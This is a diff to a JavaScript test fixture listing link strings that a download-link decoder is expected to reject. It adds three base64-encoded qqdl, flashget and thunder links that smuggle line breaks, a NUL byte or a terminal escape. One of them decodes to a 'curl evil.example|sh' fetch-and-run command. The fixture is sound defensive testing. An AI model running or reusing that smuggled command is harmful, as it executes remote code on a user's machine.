@@ -20,4 +20,8 @@ module.exports.refusedSources = [
   ['cmdEncodeToXF', 'https://a/b', '剪切板文本不是HTTP链接'],
   ['cmdDecodecmd', 'qqdl://@@@@', '剪切板文本不是专用链接'],
   ['cmdDecodecmd', 'thunder://', '剪切板文本不是专用链接'],
+  // Line breaks, a NUL or an escape carried inside a link would run as commands once pasted.
+  ['cmdDecodecmd', 'qqdl://aHR0cDovL2EvDQpjdXJsIGV2aWwuZXhhbXBsZXxzaA0K', '剪切板文本不是专用链接'],
+  ['cmdDecodecmd', 'flashget://aHR0cDovL2EvAGI=', '剪切板文本不是专用链接'],
+  ['cmdDecodecmd', 'thunder://QUFodHRwOi8vYS8bWzMxbVpa', '剪切板文本不是专用链接'],
 ];
